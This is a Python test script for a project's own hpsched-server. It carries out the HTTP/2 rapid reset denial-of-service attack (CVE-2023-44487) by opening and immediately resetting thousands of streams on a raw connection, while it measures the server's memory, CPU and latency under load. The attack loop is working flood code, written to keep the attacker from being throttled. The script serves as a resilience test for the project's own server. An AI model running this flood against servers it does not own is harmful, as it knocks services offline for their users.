#!/usr/bin/env python3
"""The HTTP/2 "rapid reset" attack (CVE-2023-44487) against hpsched-server, bounded, with a raw HTTP/2 client.

One TCP connection, no token: HEADERS of a GetValues call and at once RST_STREAM, many thousand times, written as
fast as the socket takes them. Meanwhile another connection asks for health and a cheap GetValues, and the server's
RSS and CPU time are sampled from /proc.

    rapid_reset.py HOST:PORT PID STREAMS [CONNECTIONS]     # prints one JSON object with what was measured

Used by tests/e2e/flood_test.py (the quick form, in `make test`) and as a script for the long form (soak).
Needs python3-h2 (Debian) and grpcio.
"""
import json
import os
import select
import socket
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

PAGE = os.sysconf("SC_PAGE_SIZE")
TICKS = os.sysconf("SC_CLK_TCK")


def rss_bytes(pid):
    with open(f"/proc/{pid}/statm") as f:
        return int(f.read().split()[1]) * PAGE


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / TICKS  # utime + stime


def attack(host, port, streams, method="/hpsched.v1.SchedulerService/GetValues", deadline_s=120, drain_s=15):
    """Opens and resets `streams` streams on one connection. Returns what the server answered (GOAWAY, resets), and
    how many streams were written before the server closed the connection, if it did."""
    sock = socket.create_connection((host, port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    # Let the server send as much as it likes: nothing it sends should throttle the attacker.
    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 2 ** 31 - 1})
    sock.sendall(conn.data_to_send())
    headers = [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", f"{host}:{port}"),
               ("content-type", "application/grpc"), ("te", "trailers")]
    sent = 0
    seen = {"goaway": None, "closed": False, "server_resets": 0}
    end = time.monotonic() + deadline_s
    sock.setblocking(False)
    pending = b""
    while sent < streams and not seen["closed"] and time.monotonic() < end:
        # A batch of open+reset pairs, then whatever the server said.
        for _ in range(min(500, streams - sent)):
            stream_id = conn.get_next_available_stream_id()
            try:
                conn.send_headers(stream_id, headers)
                conn.reset_stream(stream_id)
            except h2.exceptions.ProtocolError:
                break
            sent += 1
        pending += conn.data_to_send()
        while pending and time.monotonic() < end:
            readable, writable, _ = select.select([sock], [sock], [], 1.0)
            if readable:
                if not receive(sock, conn, seen):
                    break
                pending += conn.data_to_send()
            if writable and pending:
                try:
                    n = sock.send(pending)
                    pending = pending[n:]
                except BlockingIOError:
                    pass
                except (ConnectionResetError, BrokenPipeError):
                    seen["closed"] = True
                    break
        if seen["goaway"] is not None:
            break
    # Every stream is written; the server may still be working through them (on a loaded machine it lags the
    # attacker by thousands of streams). Wait, bounded, for what it decides about this connection rather than
    # leaving before it could: a closed socket or a GOAWAY, or silence until drain_s.
    drain_end = min(end, time.monotonic() + drain_s)
    while not seen["closed"] and seen["goaway"] is None and time.monotonic() < drain_end:
        readable, _, _ = select.select([sock], [], [], 0.5)
        if readable and not receive(sock, conn, seen):
            break
    sock.close()
    return {"streams_sent": sent, "goaway": seen["goaway"], "server_closed": seen["closed"],
            "server_resets": seen["server_resets"]}


def receive(sock, conn, seen):
    """Reads what the server sent into `seen` (a GOAWAY, stream resets); False once the server closed the socket."""
    try:
        data = sock.recv(1 << 20)
    except (ConnectionResetError, BrokenPipeError):
        data = b""
    if not data:
        seen["closed"] = True
        return False
    try:
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                seen["goaway"] = {"error_code": int(event.error_code), "last_stream_id": event.last_stream_id}
            elif isinstance(event, h2.events.StreamReset):
                seen["server_resets"] += 1
    except h2.exceptions.ProtocolError:
        pass
    return True


class Observer:
    """Health and a cheap GetValues on their own connection, once every `period` seconds; records latencies."""

    def __init__(self, address, token, job, svc, svc_grpc, period=0.1):
        import grpc
        self.grpc = grpc
        self.address, self.token, self.job, self.svc, self.svc_grpc = address, token, job, svc, svc_grpc
        self.period = period
        self.health_ms, self.values_ms, self.errors = [], [], []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *exc):
        self._stop.set()
        self._thread.join(timeout=60)

    def _run(self):
        grpc = self.grpc
        with grpc.insecure_channel(self.address) as channel:
            check = channel.unary_unary("/grpc.health.v1.Health/Check")
            stub = self.svc_grpc.SchedulerServiceStub(channel)
            metadata = (("authorization", f"Bearer {self.token}"),) if self.token else ()
            while not self._stop.is_set():
                try:
                    t = time.monotonic()
                    check(b"", timeout=30)
                    self.health_ms.append((time.monotonic() - t) * 1000)
                    t = time.monotonic()
                    stub.GetValues(self.svc.GetValuesRequest(job=self.job, step=0, count=10), timeout=30,
                                   metadata=metadata)
                    self.values_ms.append((time.monotonic() - t) * 1000)
                except grpc.RpcError as e:
                    self.errors.append(f"{e.code()}: {e.details()}")
                self._stop.wait(self.period)


def percentile(values, p):
    if not values:
        return None
    values = sorted(values)
    return round(values[min(len(values) - 1, int(p / 100 * len(values)))], 1)


def measure(address, pid, streams, observer_factory=None, connections=1, drain_s=15):
    """Runs the attack (`connections` connections one after the other, each trying streams / connections streams)
    while sampling the server; returns the measurements (RSS in MB, CPU in s, latencies in ms)."""
    host, port = address.rsplit(":", 1)
    samples = []
    done = threading.Event()

    def sample():
        while not done.is_set():
            try:
                samples.append(rss_bytes(pid))
            except OSError:
                return
            done.wait(0.05)

    rss_before = rss_bytes(pid)
    cpu_before = cpu_seconds(pid)
    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    start = time.monotonic()
    observer = observer_factory() if observer_factory else None
    if observer:
        observer.__enter__()
    try:
        result = {"streams_sent": 0, "connections_closed_by_server": 0, "goaways": []}
        for _ in range(connections):
            one = attack(host, int(port), streams // connections, drain_s=drain_s)
            result["streams_sent"] += one["streams_sent"]
            result["connections_closed_by_server"] += int(one["server_closed"] or one["goaway"] is not None)
            if one["goaway"] is not None:
                result["goaways"].append(one["goaway"])
    finally:
        elapsed = time.monotonic() - start
        # The server may still be working through what it read: keep observing a little.
        time.sleep(1.0)
        if observer:
            observer.__exit__(None, None, None)
        done.set()
        sampler.join(timeout=10)
    result.update({
        "attack_seconds": round(elapsed, 2),
        "rss_before_mb": round(rss_before / 2 ** 20, 1),
        "rss_peak_mb": round(max(samples + [rss_before]) / 2 ** 20, 1),
        "rss_after_mb": round(rss_bytes(pid) / 2 ** 20, 1),
        "cpu_seconds": round(cpu_seconds(pid) - cpu_before, 2),
    })
    if observer:
        result.update({
            "health_checks": len(observer.health_ms), "health_p50_ms": percentile(observer.health_ms, 50),
            "health_max_ms": percentile(observer.health_ms, 100),
            "values_calls": len(observer.values_ms), "values_p50_ms": percentile(observer.values_ms, 50),
            "values_max_ms": percentile(observer.values_ms, 100), "observer_errors": observer.errors[:5],
        })
    return result


if __name__ == "__main__":
    address, pid, streams = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    connections = int(sys.argv[4]) if len(sys.argv) > 4 else 1
    print(json.dumps(measure(address, pid, streams, connections=connections)))
